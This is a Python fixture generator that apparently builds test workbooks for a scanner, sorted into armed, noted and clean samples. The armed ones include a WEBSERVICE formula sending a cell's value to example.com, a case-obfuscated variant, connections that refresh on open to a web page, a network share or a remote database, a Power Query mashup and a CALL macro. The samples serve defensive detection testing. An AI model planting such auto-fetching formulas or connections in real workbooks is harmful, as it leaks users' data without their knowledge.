import base64
import struct

from gateway.samples.package import package
from tests.makers import workbooks

WEB = '<webPr url="http://example.com/table"/>'
ON_OPEN = 'refreshOnLoad="1"'
MASHUP = '<dbPr connection="Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$;Location=Query1" command="x"/>'
SHARE = r'<textPr sourceFile="\\example.com\share\a.txt"/>'
REMOTE_DATABASE = '<dbPr connection="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=http://example.com/a.mdb"/>'
DATABASE = '<dbPr connection="Provider=SQLOLEDB;Data Source=db01;Initial Catalog=sales" command="sales"/>'


def _power_query(attributes: str) -> bytes:
    queries = package({"Formulas/Section1.m": 'shared Query1 = Web.Contents("http://example.com/inert");'})
    raw = base64.b64encode(struct.pack("<II", 0, len(queries)) + queries).decode()
    connections = (
        f'<connections xmlns="{workbooks.MAIN}"><connection id="1" {attributes}>{MASHUP}</connection></connections>'
    )
    item = f'<?xml version="1.0" encoding="utf-16"?><DataMashup xmlns="http://schemas.microsoft.com/DataMashup">{raw}</DataMashup>'
    return workbooks.with_parts({"xl/connections.xml": connections, "customXml/item1.xml": item.encode("utf-16")})


def _query_table() -> bytes:
    connections = f'<connections xmlns="{workbooks.MAIN}"><connection id="1">{WEB}</connection></connections>'
    table = f'<queryTable xmlns="{workbooks.MAIN}" name="q" connectionId="1" refreshOnLoad="1"/>'
    return workbooks.with_parts({"xl/connections.xml": connections, "xl/queryTables/queryTable1.xml": table})


FILES = {
    "armed-webservice.xlsx": lambda: workbooks.formula_cell('_xlfn.WEBSERVICE("http://example.com/?"&amp;A2)'),
    "armed-webservice-case.xlsx": lambda: workbooks.formula_cell('w&#101;bservice("http://example.com/")'),
    "armed-web-on-open.xlsx": lambda: workbooks.connection(ON_OPEN, WEB),
    "armed-share-on-open.xlsx": lambda: workbooks.connection(
        ON_OPEN, r'<textPr sourceFile="\\example.com\share\a.txt"/>'
    ),
    "armed-database-on-open.xlsx": lambda: workbooks.connection(ON_OPEN, REMOTE_DATABASE),
    "armed-query-table.xlsx": _query_table,
    "armed-power-query.xlsx": lambda: _power_query(ON_OPEN),
    "armed-macro-function.xlsx": lambda: workbooks.formula_cell('CALL("inert","inert","J")'),
    "noted-web.xlsx": lambda: workbooks.connection("", WEB),
    "noted-power-query.xlsx": lambda: _power_query(""),
    "noted-live-data.xlsx": lambda: workbooks.formula_cell('RTD("vendor.server",,"price")'),
    "noted-python.xlsx": lambda: workbooks.formula_cell("_xlfn._xlws.PY(0,0)"),
    "noted-webservice-from-cells.xlsx": lambda: workbooks.formula_cell("_xlfn.WEBSERVICE(A2)"),
    "clean-database.xlsx": lambda: workbooks.connection(ON_OPEN, DATABASE),
    "clean.xlsx": lambda: workbooks.formula_cell('HYPERLINK("http://example.com/")'),
}
